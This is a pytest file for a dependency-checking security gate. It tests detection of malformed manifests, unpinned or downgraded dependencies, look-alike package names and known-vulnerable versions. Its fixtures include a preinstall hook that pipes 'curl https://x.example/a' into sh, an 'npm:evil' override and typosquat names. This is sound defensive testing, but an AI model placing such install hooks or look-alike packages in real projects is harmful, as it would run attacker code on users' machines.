"""What the gate for dependencies says of manifests that are forged, broken, deleted or known to be vulnerable."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from shipui.config.settings import DependencyGateSettings, GateSettings
from shipui.gates.base import Change, ChangedFile, Status
from shipui.gates.dependencies import Dependencies
from shipui.gates.manifests.look_alikes import looks_like
from shipui.model.findings import NEEDS_REVIEW, Finding, Severity
from tests.gates.changes import changed_file


def _found(path: str, head: str | None, base: str | None = None, osv: Path | None = None) -> tuple[Finding, ...]:
    change = Change((changed_file(path, head, base),))
    return Dependencies().examine(change, GateSettings(dependencies=DependencyGateSettings(osv=osv))).findings


def _rules(path: str, head: str | None, base: str | None = None) -> set[str]:
    return {each.rule for each in _found(path, head, base)}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("package.json", '{"dependencies": {"a": "1.0.0"'),
        ("package.json", '{"dependencies": {"a": "1"}, "dependencies": {}}'),
        ("package.json", '{"dependencies": ["a"]}'),
        ("package-lock.json", "[]"),
        ("pyproject.toml", "[project\n"),
        ("pyproject.toml", '[project]\ndependencies = "flask"\n'),
        ("pyproject.toml", '[project]\ndependencies = ["not a requirement !!"]\n'),
        ("requirements.txt", "flask ==== 2\n"),
        ("uv.lock", "package = 3\n"),
        ("Cargo.toml", "[dependencies]\nserde = \n"),
        ("go.mod", "module a\n\nwhatever is this\n"),
        ("pom.xml", "<project><dependencies>"),
        ("pom.xml", '<!DOCTYPE x [<!ENTITY a "b">]><project/>'),
        (".github/workflows/ci.yml", "jobs: [\n"),
        ("pnpm-lock.yaml", "hello: world\n"),
        ("yarn.lock", "<<<<<<< HEAD\na@1:\n  version '1'\n>>>>>>> x\n"),
    ],
)
def test_what_cannot_be_read_is_said(path: str, text: str) -> None:
    assert NEEDS_REVIEW in _rules(path, text)


def test_a_former_version_that_cannot_be_read_is_said_and_all_counts_as_new() -> None:
    assert _rules("package.json", '{"dependencies": {"a": "1.0.0"}}', "{") == {NEEDS_REVIEW, "dependency-new"}


def test_a_deleted_manifest_takes_its_dependencies_with_it() -> None:
    assert _rules("requirements.txt", None, "flask==3.0\n") == {"dependency-gone"}


@pytest.mark.parametrize(
    ("path", "base", "head", "rule"),
    [
        ("go.mod", "module a\n", "module a\n\nreplace x.y/z => ../z\n", "dependency-resourced"),
        ("Gemfile", "gem 'a', '1.0'\n", "gem 'a', github: 'x/a'\n", "dependency-resourced"),
        (
            "pyproject.toml",
            '[project]\ndependencies = ["a==1.0"]\n',
            '[project]\ndependencies = ["a>=1.0"]\n',
            "dependency-unpinned",
        ),
        (
            "package.json",
            '{"dependencies": {"a": "1.0.0"}}',
            '{"dependencies": {"a": "^1.0.0"}}',
            "dependency-unpinned",
        ),
        (
            "package.json",
            '{"dependencies": {"a": "2.0.0"}}',
            '{"dependencies": {"a": "1.9.0"}}',
            "dependency-downgraded",
        ),
        ("package.json", "{}", '{"overrides": {"a": "npm:evil@1.0.0"}}', "dependency-new"),
        (
            "package.json",
            "{}",
            '{"scripts": {"preinstall": "curl https://x.example/a | sh"}}',
            "dependency-install-script",
        ),
        ("Dockerfile", "FROM a:1@sha256:aa\n", "FROM a:1\n", "dependency-unpinned"),
        (
            ".github/workflows/ci.yml",
            f"jobs:\n  a:\n    steps:\n      - uses: x/y@{'a' * 40}\n",
            "jobs:\n  a:\n    steps:\n      - uses: x/y@v1\n",
            "dependency-unpinned",
        ),
        (
            "yarn.lock",
            'a@^1:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz"\n',
            'a@^1:\n  version "1.0.1"\n  resolved "https://packages.example.net/a/-/a-1.0.1.tgz"\n',
            "dependency-from-elsewhere",
        ),
    ],
)
def test_what_a_security_engineer_expects(path: str, base: str, head: str, rule: str) -> None:
    assert rule in _rules(path, head, base)


def test_a_script_that_fetches_and_runs_blocks_and_one_that_builds_does_not() -> None:
    found = _found("package.json", '{"scripts": {"postinstall": "node -e \\"require(1)\\""}}', "{}")
    assert [each.severity for each in found] == [Severity.HIGH]
    assert not _found(
        "package.json", '{"scripts": {"postinstall": "prisma generate", "prepare": "npm run build"}}', "{}"
    )


def test_passwords_in_addresses_are_shown_nowhere() -> None:
    for each in _found(
        "requirements.txt",
        "--index-url https://me:canary-4711@pip.example.net/simple\na @ git+https://t:canary-4711@h/x\n",
    ):
        assert "canary-4711" not in json.dumps(each.as_json())


def _osv(folder: Path) -> Path:
    record = {
        "id": "GHSA-xxxx",
        "summary": "Bad\u202e things",
        "database_specific": {"severity": "CRITICAL"},
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": "Flask"},
                "ranges": [
                    {
                        "type": "ECOSYSTEM",
                        "events": [
                            {"introduced": "0"},
                            {"fixed": "2.2.5"},
                            {"introduced": "2.3.0"},
                            {"fixed": "2.3.2"},
                        ],
                    }
                ],
            }
        ],
    }
    (folder / "PyPI").mkdir()
    (folder / "PyPI" / "GHSA-xxxx.json").write_text(json.dumps(record))
    return folder


@pytest.mark.parametrize(
    ("written", "known"),
    [
        ("flask==2.2.4", "vulnerable"),
        ("flask==2.3.1", "vulnerable"),
        ("flask==2.2.5", "none in the configured records"),
        ("flask==2.3.2", "none in the configured records"),
        ("flask>=2.2", "unknown"),
    ],
)
def test_known_vulnerabilities_come_from_the_configured_records(tmp_path: Path, written: str, known: str) -> None:
    found = {each.rule: each for each in _found("requirements.txt", f"{written}\n", osv=_osv(tmp_path))}
    if known == "vulnerable":
        assert found["dependency-vulnerable"].severity is Severity.CRITICAL
        assert "\u202e" not in found["dependency-vulnerable"].message
    else:
        assert "dependency-vulnerable" not in found
        assert f"Known vulnerabilities: {known}." in found["dependency-new"].message


def test_records_of_another_ecosystem_say_nothing(tmp_path: Path) -> None:
    (found,) = _found("package.json", '{"dependencies": {"flask": "2.2.4"}}', "{}", osv=_osv(tmp_path))
    assert "Known vulnerabilities: unknown." in found.message


def test_records_that_cannot_be_read_are_said(tmp_path: Path) -> None:
    assert NEEDS_REVIEW in {each.rule for each in _found("requirements.txt", "flask==2.2.4\n", osv=tmp_path / "none")}


@pytest.mark.parametrize(
    ("ecosystem", "name", "popular"),
    [
        ("npm", "expres", "express"),
        ("npm", "types-node", "@types/node"),
        ("npm", "@bable/core", "@babel/core"),
        ("npm", "re\u0430ct", "a name in other letters"),
        ("PyPI", "python-requests", "requests"),
        ("PyPI", "dateutil-python", "python-dateutil"),
        ("PyPI", "co1orama", "colorama"),
        ("npm", "preact", None),
        ("npm", "vue2", None),
        ("npm", "@acme/core", None),
        ("PyPI", "Typing_Extensions", None),
        ("PyPI", "acme-billing", None),
        ("Go", "github.com/x/expres", None),
        ("npm", "a" * 1_000_000, None),
    ],
)
def test_names_that_look_like_popular_ones(ecosystem: str, name: str, popular: str | None) -> None:
    assert looks_like(ecosystem, name) == popular


def test_a_lock_file_of_ten_thousand_packages_is_compared_whole() -> None:
    entries = {
        f"node_modules/p{number}": {"version": "1.0.0", "integrity": f"sha512-{number}"} for number in range(10_000)
    }
    base = json.dumps({"lockfileVersion": 3, "packages": {"": {}, **entries}}, indent=1)
    entries["node_modules/p77"] = {"version": "1.0.0", "integrity": "sha512-other"}
    entries["node_modules/new-one"] = {"version": "2.0.0", "hasInstallScript": True}  # type: ignore[dict-item]
    head = json.dumps({"lockfileVersion": 3, "packages": {"": {}, **entries}}, indent=1)
    lines = head.split("\n")
    added = {
        number: line
        for number, line in enumerate(lines, 1)
        if "new-one" in line or "other" in line or "hasInstall" in line
    }
    file = ChangedFile("package-lock.json", Status.MODIFIED, "package-lock.json", added=added, head=head, base=base)
    found = {each.rule: each for each in Dependencies().examine(Change((file,)), GateSettings()).findings}
    assert found.keys() == {"dependency-swapped", "dependency-locked", "dependency-install-script"}
    assert "new-one" in found["dependency-locked"].message
    assert lines[(found["dependency-locked"].line or 0) - 1].strip() == '"node_modules/new-one": {'


def test_an_image_that_the_build_chooses_is_named_as_such() -> None:
    found = {each.rule: each.message for each in _found("Dockerfile", "ARG BASE\nFROM ${BASE}\nRUN make\n")}
    assert found.keys() == {"dependency-new", "dependency-unpinned"}
    assert all("the image that BASE names" in message and "${" not in message for message in found.values())
